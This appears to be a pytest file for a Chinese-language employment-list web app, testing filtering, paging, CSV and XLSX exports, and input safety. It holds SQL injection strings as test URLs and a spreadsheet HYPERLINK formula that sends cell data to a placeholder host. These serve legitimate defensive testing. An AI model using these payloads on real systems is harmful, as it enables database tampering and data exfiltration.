"""Lists: filtered, sorted, paged and exported; a text that looks like a formula stays a text."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from page.users import Get
from steppe import database
from steppe.page import exporting, listing


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_a_list_is_filtered_and_sorted_by_its_columns(get: Get) -> None:
    everybody = rows_of(get("head", "/export/list_willing_out.csv").text)
    assert len(everybody) == 2
    none = get("head", "/view/list_willing_out?f.status=employed").text
    assert "没有符合条件的行" in none
    falling = rows_of(get("head", "/export/list_willing_out.csv?sort=-region_name").text)
    rising = rows_of(get("head", "/export/list_willing_out.csv?sort=region_name").text)
    assert [row["地区"] for row in falling] == [row["地区"] for row in reversed(rising)]
    found = rows_of(get("head", "/export/list_willing_out.csv?secret_words=乌云嘎查").text)
    assert {row["嘎查村"] for row in found} == {"乌云嘎查"}


@pytest.mark.parametrize(
    "address",
    [
        "/view/list_employed?sort=1;DROP TABLE mart.target_progress",
        "/view/list_employed?f.status')) OR 1=1 --=x",
        "/view/list_employed?secret_words=%25' OR '1'='1",
        "/view/list_employed?page=-1",
        "/view/list_employed?page=99999999999999999999",
        "/view/list_employed?place='; RESET ROLE; --",
        "/view/list_employed?month=2020-13",
        "/view/story?of=150404-x",
        "/view/delivery?id=1 OR 1=1",
        "/export/list_employed.exe",
    ],
)
def test_an_address_is_data(get: Get, address: str) -> None:
    answer = get("clerk", address)
    assert answer.status_code in (200, 404, 422)
    assert "乌云" not in answer.text
    assert get("clerk", "/view/list_employed").status_code == 200


def test_exports_say_what_the_page_says(get: Get) -> None:
    page = get("head", "/view/list_employed").text
    found = re.search(r"共 ([\d,]+) 行", page)
    assert found
    total = int(found[1].replace(",", ""))
    text = get("head", "/export/list_employed.csv")
    assert text.content.startswith(b"\xef\xbb\xbf")
    assert len(rows_of(text.text)) == total
    book = load_workbook(io.BytesIO(get("head", "/export/list_employed.xlsx").content), read_only=True)
    assert len(list(book["data"].rows)) == total + 1
    assert dict(book["about"].values)["导出人"] == "head"


DANGEROUS = '=HYPERLINK("http://example.invalid/"&A1)'


def test_a_formula_in_the_data_stays_a_text(filled: str, get: Get) -> None:
    with database.connect("admin", autocommit=True) as admin:
        admin.execute("UPDATE warehouse.dim_village SET village_name = %s", (DANGEROUS,))
        try:
            text = get("head", "/export/list_employed.csv").text
            assert {row["嘎查村"] for row in rows_of(text)} == {f"'{DANGEROUS}"}
            book = load_workbook(io.BytesIO(get("head", "/export/list_employed.xlsx").content))
            column = next(place for place, cell in enumerate(book["data"][1]) if cell.value == "嘎查村")
            assert {row[column].data_type for row in book["data"].iter_rows(min_row=2)} == {"s"}
        finally:
            admin.execute("UPDATE warehouse.dim_village SET village_name = '嘎查'")


@settings(max_examples=50)
@given(st.text())
def test_no_text_begins_like_a_formula(text: str) -> None:
    assert not str(exporting.safe(text)).startswith(exporting.FORMULA)


def test_without_the_guard_it_would() -> None:
    assert DANGEROUS.startswith(exporting.FORMULA)


def test_a_list_too_long_to_show_asks_for_a_place(get: Get, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(listing, "SHOWN_ROWS", 1)
    page = get("head", "/view/list_employed").text
    assert re.search(r"超过\s+1\s+行", re.sub(r"<[^>]+>", "", page))
    assert "请选择下级地区" in page
    assert "赤峰市" in page
    assert len(rows_of(get("head", "/export/list_employed.csv").text)) == 2


def test_pages_follow_each_other(get: Get, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(listing, "PAGE_ROWS", 1)
    first, second = (get("head", f"/view/list_employed?page={page}").text for page in (1, 2))
    assert "下一页" in first
    assert "上一页" in second
    places = [re.findall(r"(松山区|东胜区)</td>", text) for text in (first, second)]
    assert sorted(places) == [["东胜区"], ["松山区"]]
